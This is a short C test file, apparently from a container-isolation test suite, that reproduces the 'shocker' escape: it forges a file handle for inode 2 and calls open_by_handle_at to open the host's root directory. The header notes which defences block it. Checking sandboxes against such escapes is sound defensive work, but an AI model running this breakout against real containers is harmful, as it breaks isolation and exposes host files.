/* Open the host's root folder by its file handle, which needs no path at all.
 *
 * origin: "shocker" (Docker before 1.0), open_by_handle_at(2)
 * stopped by: no capability, seccomp
 * control: root
 */
#include "attempt.h"

int main(void)
{
    struct { struct file_handle head; unsigned char rest[128]; } handle = {.head = {.handle_bytes = 128}};
    int mount = 0, folder = open("/usr", O_RDONLY);
    ATTEMPT("a handle", name_to_handle_at(AT_FDCWD, "/usr", &handle.head, &mount, 0) == 0);
    ATTEMPT("a file by its handle", open_by_handle_at(folder, &handle.head, O_RDONLY) >= 0);
    handle.head.handle_bytes = 8, handle.head.handle_type = 1;
    memcpy(handle.head.f_handle, (unsigned char[]){2, 0, 0, 0, 0, 0, 0, 0}, 8);
    ATTEMPT("the root by inode 2", open_by_handle_at(folder, &handle.head, O_RDONLY) >= 0);
}
